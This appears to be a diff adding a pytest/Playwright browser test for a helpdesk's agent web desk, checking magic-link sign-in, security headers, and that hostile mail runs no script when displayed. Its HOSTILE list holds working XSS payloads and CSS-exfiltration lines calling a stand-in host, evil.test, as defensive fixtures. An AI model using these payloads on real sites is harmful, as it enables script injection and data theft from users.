@@ -1,0 +1,260 @@
+"""The desk in a real browser (Debian's chromium driven by Playwright, tests/browser.py):
+an agent signs in with the link mailed to them and out again; hostile mail opened on
+every desk page runs no script and loads nothing from elsewhere; and the shipped
+config, as `./scripts/run` starts it, brings the desk up where its log says.
+
+Screenshots go to tests/artifacts/ for review."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from email.headerregistry import Address
+from email.message import EmailMessage
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+from urllib.parse import quote
+
+import pytest
+
+from helpdesk.config import settings as config
+from tests.browser import RUN, Watch, screenshot, sign_in_in_browser
+from tests.helpers import REPO, free_port, run_cli, wait_ticket, wait_until
+from tests.web_helpers import Desk
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Page, Response
+
+sqlite_only = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
+
+# -- hostile mail --------------------------------------------------------------------------
+
+# Each would run RUN (tests/browser.py: sets a marker, opens a dialog), load something
+# from elsewhere (evil.test: CSS exfiltration, a tracking pixel), or both, if a page
+# put it into HTML unescaped.
+HOSTILE = [
+    f"<script>{RUN}</script>",
+    f'"><img src=x onerror="{RUN}">',
+    f"'><svg onload={RUN}><script>{RUN}</script></svg>",
+    f'<a href="javascript:{RUN}">open me</a>',
+    f'<iframe src="javascript:{RUN}"></iframe><form action="javascript:{RUN}"><button>go',
+    "</title></textarea></style><style>@import url(http://evil.test/a.css);"
+    " input[value^=a]{background:url(http://evil.test/leak?a)}</style>",
+    '<link rel="stylesheet" href="http://evil.test/b.css">'
+    '<div style="background:url(http://evil.test/inline)">styled</div>',
+    '<img src="http://evil.test/pixel.png" alt="remote">',
+    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
+]
+PAYLOAD = " ".join(HOSTILE)
+# a file name: no slash, so that no parser takes a part of it for a directory
+FILE_NAME = f"<img src=x onerror={RUN}><svg onload={RUN}>.html"
+SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>'
+       '<image href="http://evil.test/svg.png"/></svg>')
+
+
+def hostile_mail() -> EmailMessage:
+    """A mail with a payload in subject, display name, text and HTML body and attachment
+    names, and attachments that would run script if shown inline (HTML, SVG)."""
+    msg = EmailMessage()
+    msg["From"] = Address(display_name=f"<script>{RUN}</script><img src=x onerror={RUN}>",
+                          addr_spec="carol@customer.test")
+    msg["To"] = "support@example.test"
+    msg["Subject"] = f"Printer broken {PAYLOAD}"
+    msg["Message-ID"] = "<hostile-1@customer.test>"
+    msg.set_content(f"The printer is broken.\n{PAYLOAD}\n")
+    msg.add_alternative(f"<html><head><title>{PAYLOAD}</title></head>"
+                        f"<body><p>The printer is broken.</p>{PAYLOAD}</body></html>",
+                        subtype="html")
+    msg.add_attachment(f"<html><body>{PAYLOAD}</body></html>".encode(), maintype="text",
+                       subtype="html", filename=FILE_NAME)
+    msg.add_attachment(SVG.encode(), maintype="image", subtype="svg+xml",
+                       filename=f"{FILE_NAME}.svg")
+    return msg
+
+
+# -- the pages -----------------------------------------------------------------------------
+
+# Every desk page an agent can open, each opened with the hostile mail stored as ticket
+# {ticket} (the number of HD-N). A page added to the desk is one line here.
+DESK_PAGES = [
+    "/desk/",
+    # pages that show what is in their address
+    "/desk/login?next=" + quote(PAYLOAD),
+    "/desk/login/confirm?t=" + quote(PAYLOAD),
+    "/desk/" + quote(PAYLOAD.replace("/", "")),  # the 404 page
+]
+
+UNSAFE_SOURCES = ("'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:")
+
+
+def policy(response: Response) -> dict[str, list[str]]:
+    """The page's Content-Security-Policy, as directive -> sources."""
+    header = response.headers.get("content-security-policy", "")
+    assert header, f"{response.url}: no Content-Security-Policy"
+    return {d.split()[0]: d.split()[1:] for d in header.split(";") if d.strip()}
+
+
+def header_problems(response: Response) -> list[str]:
+    """What is missing from a page's security headers."""
+    csp = policy(response)
+    found = []
+    for directive in ("script-src", "object-src", "style-src"):
+        sources = csp.get(directive, csp.get("default-src"))
+        if sources is None or set(sources) & set(UNSAFE_SOURCES):
+            found.append(f"{directive} allows {sources}")
+    if csp.get("frame-ancestors") not in (["'none'"], ["'self'"]):
+        found.append(f"frame-ancestors is {csp.get('frame-ancestors')}")
+    if csp.get("base-uri") not in (["'none'"], ["'self'"]):
+        found.append(f"base-uri is {csp.get('base-uri')}")
+    if response.headers.get("x-content-type-options") != "nosniff":
+        found.append("no X-Content-Type-Options: nosniff")
+    return found
+
+
+def attachment_problems(page: Page) -> list[str]:
+    """Attachment links on the page (a path with /attachments/, or a download link)
+    must answer as a download with nosniff, never as a page of their own."""
+    found = []
+    hrefs = page.eval_on_selector_all(
+        "a[href*='/attachments/'], a[download]", "links => links.map(a => a.href)")
+    for href in sorted(set(hrefs)):
+        answer = page.request.get(href)
+        disposition = answer.headers.get("content-disposition", "")
+        if answer.ok and not disposition.startswith("attachment"):
+            found.append(f"{href}: Content-Disposition {disposition!r}")
+        if answer.ok and answer.headers.get("x-content-type-options") != "nosniff":
+            found.append(f"{href}: no nosniff")
+    return found
+
+
+# -- the harness tells script that ran from script that did not ----------------------------
+
+def test_the_harness_sees_injected_script_run_and_blocked(page: Page) -> None:
+    """Without this, a harness that noticed nothing would pass every page."""
+    served: dict[str, str] = {}
+
+    def serve(route: Any) -> None:
+        if route.request.url.startswith("http://desk.test/"):
+            route.fulfill(body=f"<html><head><title>ok</title></head><body>{PAYLOAD}"
+                          "</body></html>", content_type="text/html",
+                          headers={"Content-Security-Policy": served.get("csp", "")}
+                          if served.get("csp") else {})
+        else:
+            route.abort()
+
+    page.route("**/*", serve)
+    watch = Watch(page, "http://desk.test/")
+    page.goto("http://desk.test/open")
+    page.wait_for_load_state("load")
+    seen = "\n".join(watch.problems())
+    assert "alert dialog: 'PWNED'" in seen, seen
+    assert "document.title set" in seen and "window.__pwned set" in seen, seen
+    assert "inline handler onerror on <img>" in seen, seen
+    assert "href=javascript:" in seen, seen
+    assert "request left the desk: GET http://evil.test/" in seen, seen
+
+    # the page's policy stops the script, which the harness still reports: the markup
+    # must not have reached the page at all
+    served["csp"] = "default-src 'none'"
+    page.goto("http://desk.test/with-policy")
+    page.wait_for_load_state("load")
+    seen = "\n".join(watch.problems())
+    assert "dialog" not in seen and "document.title set" not in seen, seen
+    assert "CSP report" in seen and "script" in seen, seen
+
+    # and an escaped payload is clean
+    page.set_content(f"<p>{PAYLOAD.replace('&', '&amp;').replace('<', '&lt;')}</p>")
+    assert watch.problems() == []
+
+
+# -- signing in and out --------------------------------------------------------------------
+
+@sqlite_only
+def test_an_agent_signs_in_with_the_mailed_link_and_out_again(
+        page: Page, make_desk: Callable[..., Desk]) -> None:
+    desk = make_desk()
+    page.goto(f"{desk.url}/desk/")
+    assert page.url.startswith(f"{desk.url}/desk/login?next=")  # not signed in yet
+    screenshot(page, "signin-form")
+
+    sign_in_in_browser(page, desk, "lisa@staff.test")
+    assert page.get_by_role("heading", name="Desk").is_visible()
+    assert "(lisa, lead)" in page.inner_text("main")
+    screenshot(page, "desk-signed-in")
+
+    page.get_by_role("button", name="Sign out", exact=True).click()
+    page.wait_for_url(f"{desk.url}/desk/login")
+    page.goto(f"{desk.url}/desk/")
+    assert page.url.startswith(f"{desk.url}/desk/login?next=")  # the session has ended
+    # the link was used up by the sign-in: it signs no one in a second time
+    link = desk.link_mailed_to("lisa@staff.test")
+    assert page.goto(link).status == 410  # type: ignore[union-attr]
+
+
+# -- hostile mail on every page ------------------------------------------------------------
+
+@sqlite_only
+def test_hostile_mail_runs_no_script_on_any_desk_page(
+        page: Page, make_desk: Callable[..., Desk]) -> None:
+    desk = make_desk()
+    desk.deliver(hostile_mail())
+    number = int(wait_ticket(desk.settings)["id"].removeprefix("HD-"))
+    sign_in_in_browser(page, desk, "lisa@staff.test")  # a lead: every queue
+
+    watch = Watch(page, desk.url)
+    failures: dict[str, list[str]] = {}
+    for n, path in enumerate(DESK_PAGES):
+        address = desk.url + path.format(ticket=number)
+        response = page.goto(address)
+        assert response is not None
+        page.wait_for_load_state("load")
+        found = watch.problems() + header_problems(response) + attachment_problems(page)
+        if response.status >= 500:
+            found.append(f"status {response.status}")
+        if found:
+            failures[path[:60]] = found
+        screenshot(page, f"hostile-{n}-{re.sub(r'[^a-z]+', '-', path[:30])}")
+    assert failures == {}, "\n".join(f"{p}:\n  " + "\n  ".join(f)
+                                     for p, f in failures.items())
+
+
+# -- ./scripts/run: the shipped config brings the desk up -----------------------------------
+
+def shipped_config(tmp_path: Path) -> tuple[config.Settings, dict[str, int]]:
+    """config/helpdesk.toml as ./scripts/run uses it, with free ports and its data in
+    tmp_path (several test runs share the machine), agents.toml and rules.toml beside."""
+    ports = {"smtp": free_port(), "public": free_port(), "ops": free_port()}
+    text = (REPO / "config" / "helpdesk.toml").read_text()
+    for old, new in ((r'^port = 2525\b', f"port = {ports['smtp']}"),
+                     (r'^public = "127\.0\.0\.1:8025"', f'public = "127.0.0.1:{ports["public"]}"'),
+                     (r'^listen = "127\.0\.0\.1:8026"', f'listen = "127.0.0.1:{ports["ops"]}"'),
+                     (r'^data_dir = "data"', f'data_dir = "{tmp_path / "data"}"')):
+        text, count = re.subn(old, new, text, flags=re.M)
+        assert count == 1, old
+    site = tmp_path / "config"
+    site.mkdir()
+    (site / "helpdesk.toml").write_text(text)
+    for name in ("agents.toml", "rules.toml"):
+        (site / name).write_text((REPO / "config" / name).read_text())
+    return config.load(site / "helpdesk.toml"), ports
+
+
+def test_the_shipped_config_serves_the_desk_where_the_log_says(
+        page: Page, tmp_path: Path, daemon_procs: Callable[..., Any]) -> None:
+    settings, ports = shipped_config(tmp_path)
+    assert settings.web.enabled
+    daemon = daemon_procs(settings).start()
+    desk = f"http://127.0.0.1:{ports['public']}/desk/"
+    said = wait_until(lambda: re.search(r"agent desk at (\S+) \((.+)\)", daemon.log()),
+                      timeout=15, what="the desk's address in the log")
+    assert said[1] == desk and "helpdesk web login-link NAME" in said[2], daemon.log()
+
+    made = run_cli(settings, "web", "login-link", "alice")
+    assert made.returncode == 0, made.stderr.decode()
+    link = made.stdout.decode().splitlines()[0]
+    assert link.startswith(f"{desk}login/confirm?t="), link
+    page.goto(link)
+    page.get_by_role("button", name=re.compile("^Sign in to ")).click()
+    page.wait_for_url(desk)
+    assert "(alice, agent)" in page.inner_text("main")
+    assert daemon.terminate() == 0, daemon.log()
